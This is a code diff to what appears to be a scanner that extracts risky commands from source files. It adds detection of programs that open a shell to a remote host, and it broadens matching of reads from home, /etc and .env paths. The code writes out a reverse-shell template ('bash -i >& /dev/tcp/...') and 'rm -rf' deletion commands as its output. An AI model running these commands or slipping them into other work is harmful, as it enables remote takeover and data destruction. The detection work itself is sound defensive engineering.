@@ -58,6 +58,8 @@ export function commands_of_source(path: string, source: string): string[] {
   for (const [, command] of text.matchAll(RUN_STRINGS)) if (found.length < MAX_FOUND) found.push(plain(command ?? ''))
   for (const [, path_word] of text.matchAll(DELETES))
     if (found.length < MAX_FOUND) found.push(`rm -rf -- ${path_word?.startsWith('~') ? path_word : `'${path_word}'`}`)
+  const shell = shell_for_stranger(text)
+  if (shell !== null) found.push(shell)
   const sent = file_sent(text)
   if (sent !== null) found.push(sent)
   if (dotnet)
@@ -73,7 +75,7 @@ const READS_FILE = within(
   [
     /ReadFile|os\.Open|File::open|fs::read(?:_to_string)?|read_to_string/,
     /Files\.(?:readString|readAllBytes|readAllLines|lines)|ReadAll(?:Text|Bytes|Lines)|contentsOfFile:/,
-    /Source\.fromFile|new\s+FileInputStream|File\.read!?/,
+    /Source\.fromFile|new\s+File(?:InputStream|Reader)|fopen|ifstream|File\.read!?|File/,
   ],
   '[\\s(]{0,3}"((?:~|\\/(?:home|root|etc|Users)\\/)[^"\\n]{1,200}|(?:[\\w./-]{1,80}\\/)?\\.env[\\w.-]{0,20})"',
 )
@@ -104,6 +106,32 @@ const WHOLE_ENVIRONMENT = one_of(
   /(?<!\benvs\()(?:\bstd::)?\benv::vars(?:_os)?\(\)|\bGetEnvironmentVariables\(\)/,
   /\bprocessInfo\.environment\b(?!\[)|\bSystem\.get_env\(\)/,
 )
+
+/** A shell, as the text of a program names it. */
+const NAMES_SHELL = /"(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?: -i)?"|"(?:cmd|powershell)(?:\.exe)?"/
+/** A connection to a host that is written out, by the name that holds it where the language gives it one. */
+const DIALS = one_of(
+  /\b(\w{1,40})(?:,\s?\w{1,20})?\s?:?=\s?(?:tls|net)\.Dial(?:Timeout)?\(\s?"tcp\d?",\s?"([^"\s]{1,200})"/,
+  /\bnew (?:Socket|TcpClient)\(\s?"([^"\s]{1,200})",\s?(\d{1,5})|\bTcpStream::connect\(\s?"([^"\s]{1,200})"/,
+  /\binet_(?:addr|pton)\((?:\w{1,20},\s?)?"([^"\s]{1,100})"/,
+)
+/** What ties the two together where the connection has no name of its own. */
+const TIES = /\bdup2\s?\([^,)\n]{1,40},\s?[012]\)|\bRedirectStandardInput\b|\b(?:from_raw_fd|into_raw_fd|Stdio::from)\b/
+const PASSES_ON = /getOutputStream\(\)/g
+
+/** A program that connects to a stranger and gives it a shell, as a line of one. */
+function shell_for_stranger(text: string): string | null {
+  if (!NAMES_SHELL.test(text)) return null
+  const [, name, dialled, host, port, streamed, address] = DIALS.exec(text) ?? []
+  const to = dialled ?? (host === undefined ? (streamed ?? address) : `${host}:${port}`)
+  if (to === undefined || !/^[\w.:-]+$/.test(to) || /^(?:localhost|127\.|0\.0\.0\.0)/.test(to)) return null
+  const tied =
+    name === undefined
+      ? TIES.test(text) || (text.match(PASSES_ON)?.length ?? 0) > 1
+      : new RegExp(`\\.Std(?:in|out|err)\\s?=\\s?${name}\\b`).test(text)
+  const [to_host = '', to_port = '4444'] = to.split(':')
+  return tied ? `bash -i >& /dev/tcp/${to_host}/${to_port} 0>&1` : null
+}
 
 /** The home of the person, as these languages ask for it. */
 const HOME = one_of(
